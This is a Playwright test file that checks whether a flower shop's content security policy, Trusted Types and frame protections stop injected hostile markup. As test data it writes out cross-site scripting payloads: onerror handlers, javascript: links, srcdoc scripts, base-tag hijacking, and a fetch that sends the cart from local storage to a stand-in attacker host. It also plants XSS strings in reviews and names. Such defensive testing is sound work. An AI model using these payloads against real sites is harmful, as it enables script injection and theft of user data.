// Tests the browser's reaction when hostile markup gets into a page of the shop, or a hostile page embeds the shop.
import { expect, test } from '@playwright/test';
import type { Page } from '@playwright/test';

import { signUpCustomer } from '../support/accounts';
import { callShop, collectedOrder, plentifulFlower } from '../support/shopApi';
import { suite } from '../support/suite';

declare global {
  interface Window {
    ran: string[];
    blocked: string[];
  }
}

const evil = 'http://evil.example';

test.beforeEach(async ({ context }) => {
  // The hostile site responds to every request, so only the browser can block its content.
  await context.route(`${evil}/**`, async (route) => {
    const { pathname } = new URL(route.request().url());
    if (pathname === '/frame.html') {
      const frames = ['/', '/cart', '/.hidden', '/admin'].map(
        (path) => `<iframe src="${suite.shopUrl}${path}"></iframe>`,
      );
      await route.fulfill({ contentType: 'text/html', body: frames.join('') });
    } else {
      await route.fulfill({
        contentType: 'text/javascript',
        body: 'window.ran.push("script of another site")',
      });
    }
  });
});

/** Injects markup that tries to run code in several ways. The page records what ran and what the policy blocked. */
async function inject(page: Page): Promise<void> {
  await page.evaluate((origin) => {
    window.ran = [];
    window.blocked = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      window.blocked.push(effectiveDirective);
    });
    const { trustedTypes } = window as {
      trustedTypes?: { createPolicy: (name: string, rules: object) => Same };
    };
    type Same = Record<'createHTML' | 'createScript' | 'createScriptURL', (text: string) => string>;
    const same = (text: string) => text;
    // Creates a Trusted Types policy that allows everything, as an attacker who gets past the shop's own policy would.
    const past = { createHTML: same, createScript: same, createScriptURL: same };
    const made = trustedTypes?.createPolicy(`hostile-${Math.random()}`, past) ?? past;
    const script = document.createElement('script');
    script.textContent = made.createScript('window.ran.push("inline script")');
    const foreign = document.createElement('script');
    foreign.src = made.createScriptURL(`${origin}/steal.js`);
    const data = document.createElement('script');
    data.src = made.createScriptURL('data:text/javascript,window.ran.push("script in a data URL")');
    const box = document.createElement('div');
    box.innerHTML = made.createHTML(
      '<img src="data:," onerror="window.ran.push(\'handler of a picture\')">' +
        '<a id="hostile-link" href="javascript:void window.ran.push(\'link\')">x</a>' +
        '<iframe srcdoc="<script>parent.ran.push(\'frame\')</script>"></iframe>' +
        `<object data="${origin}/x.swf"></object>`,
    );
    const base = document.createElement('base');
    base.href = `${origin}/`;
    document.body.append(script, foreign, data, box);
    document.head.append(base);
    document.querySelector<HTMLElement>('#hostile-link')?.click();
    try {
      Reflect.apply(setTimeout, window, ['window.ran.push("evaluated text")', 0]);
    } catch {
      // The shop's policy forbids evaluating text.
    }
    void fetch(`${origin}/stolen?cart=${localStorage.getItem('cart') ?? ''}`).then(
      () => window.ran.push('sent away'),
      () => undefined,
    );
  }, evil);
}

/** Passes text to APIs that turn it into markup or scripts. Returns the names of the APIs that refused it. */
const refusedTexts = (page: Page) =>
  page.evaluate((origin) => {
    const sinks: Record<string, () => unknown> = {
      markup: () => (document.createElement('div').innerHTML = '<img src=x onerror="window.ran=[1]">'),
      'a document': () => new DOMParser().parseFromString('<p>x</p>', 'text/html'),
      'a script': () => (document.createElement('script').textContent = 'window.ran = [1]'),
      'the URL of a script': () => (document.createElement('script').src = `${origin}/steal.js`),
      'text without a tag': () => (document.createElement('div').innerHTML = 'x'),
      'a script of the shop': () => (document.createElement('script').src = '/assets/x.js'),
    };
    return Object.keys(sinks).filter((name) => {
      try {
        sinks[name]?.();
        return false;
      } catch {
        return true;
      }
    });
  }, evil);

const readOutcome = (page: Page) => page.evaluate(() => ({ ran: window.ran, blocked: window.blocked }));

test('markup injected into a page of the shop runs, loads and sends nothing', async ({ page }) => {
  const answered: string[] = [];
  page.on('response', (response) => answered.push(response.url()));
  for (const path of ['/', '/cart', '/admin/login']) {
    await page.goto(path);
    await expect(page.locator('#root > *').first()).toBeVisible();
    await inject(page);
    await expect
      .poll(async () => (await readOutcome(page)).blocked)
      .toEqual(
        expect.arrayContaining([
          'script-src-elem',
          'script-src-attr',
          'connect-src',
          'object-src',
          'base-uri',
        ]),
      );
    expect((await readOutcome(page)).ran).toEqual([]);
    expect(await page.evaluate(() => new URL('x', document.baseURI).origin)).toBe(suite.shopUrl);
  }
  expect(answered.filter((url) => url.startsWith(evil))).toEqual([]);
});

test('the browser refuses text that a library or the shop’s code would use as markup or as a script', async ({
  page,
}) => {
  for (const path of ['/', '/admin/login']) {
    await page.goto(path);
    await expect(page.locator('#root > *').first()).toBeVisible();
    expect(await refusedTexts(page)).toEqual(['markup', 'a document', 'a script', 'the URL of a script']);
  }
});

test('markup injected into a page without the shop’s policy runs code', async ({ page }) => {
  await page.route(`${suite.shopUrl}/bare`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><body></body>' }),
  );
  await page.goto('/bare');
  await inject(page);
  await expect
    .poll(async () => (await readOutcome(page)).ran)
    .toEqual(expect.arrayContaining(['inline script', 'handler of a picture', 'link', 'evaluated text']));
  expect((await readOutcome(page)).blocked).toEqual([]);
});

test('no other site can show the shop in a frame', async ({ page }) => {
  await page.goto(`${evil}/frame.html`);
  await expect.poll(() => page.frames().length).toBe(5);
  for (const frame of page.frames().slice(1)) {
    await expect.poll(() => frame.url()).toMatch(/^chrome-error:/);
    expect(await frame.locator('#root').count()).toBe(0);
  }
});

test('hostile names and reviews are shown as text', async ({ page }) => {
  const hostile = `<img src=x onerror="window.ran=['review']"><script>window.ran=['script']</script>[press](javascript:alert(1))`;
  const customer = await signUpCustomer();
  const flower = await plentifulFlower();
  const renamed = await fetch(`${suite.authUrl}/identitytoolkit.googleapis.com/v1/accounts:update?key=demo`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ idToken: customer.idToken, displayName: '<b onclick=alert(1)>Mallory</b>' }),
  });
  expect(renamed.status).toBe(200);
  const orderId = await collectedOrder(customer, [flower]);
  const review = { orderId, productId: flower.id, rating: 2, review: `${orderId} ${hostile}` };
  await callShop('submit-order-review', { method: 'POST', body: review, token: customer.idToken });

  await page.goto(`/product-view?id=${flower.id}`);
  await page.getByRole('button', { name: /\(\d+ reviews?\)/ }).click();
  const reviews = page.getByRole('region', { name: 'Reviews' });
  await expect(reviews.getByText(review.review)).toBeVisible();
  await expect(reviews.getByText('<b onclick=alert(1)>Mallory</b>').first()).toBeVisible();
  await expect(reviews.locator('img[src="x"], script, a[href^="javascript:"], b')).toHaveCount(0);
  expect(await page.evaluate(() => window.ran)).toBeUndefined();
});
